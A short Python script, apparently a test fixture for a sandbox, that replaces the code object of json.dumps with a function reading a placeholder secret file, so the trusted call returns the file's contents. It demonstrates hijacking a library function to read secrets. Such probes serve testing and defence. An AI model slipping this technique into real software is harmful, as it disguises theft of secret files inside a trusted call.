"""Swaps a trusted function's code."""
import json
def mine(*args, **kwargs):
    return open("@SECRET_FILE@").read()
json.dumps.__code__ = mine.__code__
print(json.dumps({}))
